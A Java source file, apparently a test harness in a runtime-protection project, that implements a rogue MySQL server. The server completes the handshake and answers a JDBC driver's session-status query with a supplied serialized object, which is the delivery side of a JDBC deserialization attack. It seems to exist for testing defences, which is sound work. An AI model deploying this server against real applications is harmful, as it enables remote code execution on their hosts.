package io.github.raspspring.carrier.jvm;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

/**
 * A server of the attacker that speaks as much of MySQL as a driver needs to trust it,
 * and answers the question for its status by a serialized object.
 */
final class FakeMySql {

	private static final Pattern VARIABLE = Pattern.compile("AS (\\w+)");

	private static final Map<String, String> VALUES = Map.of("character_set_client", "utf8mb4",
			"character_set_connection", "utf8mb4", "character_set_results", "utf8mb4", "character_set_server",
			"utf8mb4", "collation_server", "utf8mb4_general_ci", "sql_mode", "", "system_time_zone", "UTC", "time_zone",
			"SYSTEM", "transaction_isolation", "REPEATABLE-READ", "init_connect", "");

	private final ServerSocket server;

	private final byte[] object;

	private byte sequence;

	FakeMySql(String object) throws IOException {
		this.object = Base64.getDecoder().decode(object);
		this.server = new ServerSocket(0, 50, InetAddress.getByAddress(new byte[] { 127, 0, 0, 1 }));
		Thread thread = new Thread(this::serve);
		thread.setDaemon(true);
		thread.start();
	}

	int port() {
		return this.server.getLocalPort();
	}

	private void serve() {
		while (!this.server.isClosed()) {
			try (Socket client = this.server.accept()) {
				talk(new DataInputStream(client.getInputStream()), client.getOutputStream());
			}
			catch (IOException ex) {
				// The next one may stay longer.
			}
		}
	}

	private void talk(DataInputStream in, OutputStream out) throws IOException {
		this.sequence = 0;
		send(out, greeting());
		receive(in);
		send(out, ok());
		while (true) {
			byte[] command = receive(in);
			if (command[0] == 1) {
				return;
			}
			answer(out, new String(command, 1, command.length - 1, StandardCharsets.UTF_8));
		}
	}

	private void answer(OutputStream out, String query) throws IOException {
		List<String> names = VARIABLE.matcher(query).results().map((MatchResult match) -> match.group(1)).toList();
		if (query.contains("SESSION STATUS")) {
			rows(out, List.of("a", "b", "c"), true);
		}
		else if (query.contains("@@") && !names.isEmpty()) {
			rows(out, names, false);
		}
		else {
			send(out, ok());
		}
	}

	private void rows(OutputStream out, List<String> names, boolean object) throws IOException {
		send(out, new byte[] { (byte) names.size() });
		for (String name : names) {
			send(out, column(name, object));
		}
		send(out, end());
		ByteArrayOutputStream row = new ByteArrayOutputStream();
		for (String name : names) {
			text(row, object ? this.object : VALUES.getOrDefault(name, "28800").getBytes(StandardCharsets.UTF_8));
		}
		send(out, row.toByteArray());
		send(out, end());
	}

	/** Text in UTF-8, or a large object of bytes. */
	private static byte[] column(String name, boolean object) throws IOException {
		ByteArrayOutputStream column = new ByteArrayOutputStream();
		for (String part : new String[] { "def", "", "", "", name, name }) {
			text(column, part.getBytes(StandardCharsets.UTF_8));
		}
		column.write(new byte[] { 12, (byte) (object ? 63 : 45), 0, -1, -1, 0, 0, (byte) (object ? 252 : 253),
				(byte) (object ? 0x90 : 0), 0, 0, 0, 0 });
		return column.toByteArray();
	}

	private static byte[] greeting() throws IOException {
		ByteArrayOutputStream greeting = new ByteArrayOutputStream();
		greeting.write(10);
		greeting.write("5.7.30\0".getBytes(StandardCharsets.US_ASCII));
		greeting.write(new byte[] { 1, 0, 0, 0 });
		greeting.write("abcdefgh\0".getBytes(StandardCharsets.US_ASCII));
		// Protocol 41, transactions, secure connections, and plug-ins; no TLS.
		greeting.write(new byte[] { (byte) 0x0f, (byte) 0xa2, 45, 2, 0, 8, 0, 21 });
		greeting.write(new byte[10]);
		greeting.write("abcdefghijkl\0mysql_native_password\0".getBytes(StandardCharsets.US_ASCII));
		return greeting.toByteArray();
	}

	private static byte[] ok() {
		return new byte[] { 0, 0, 0, 2, 0, 0, 0 };
	}

	private static byte[] end() {
		return new byte[] { -2, 0, 0, 2, 0 };
	}

	private static void text(ByteArrayOutputStream out, byte[] text) throws IOException {
		if (text.length < 251) {
			out.write(text.length);
		}
		else {
			out.write(new byte[] { -4, (byte) text.length, (byte) (text.length >> 8) });
		}
		out.write(text);
	}

	private void send(OutputStream out, byte[] payload) throws IOException {
		out.write(new byte[] { (byte) payload.length, (byte) (payload.length >> 8), (byte) (payload.length >> 16),
				this.sequence++ });
		out.write(payload);
		out.flush();
	}

	private byte[] receive(DataInputStream in) throws IOException {
		byte[] head = in.readNBytes(4);
		if (head.length < 4) {
			throw new EOFException();
		}
		this.sequence = (byte) (head[3] + 1);
		return in.readNBytes((head[0] & 255) | (head[1] & 255) << 8 | (head[2] & 255) << 16);
	}

}
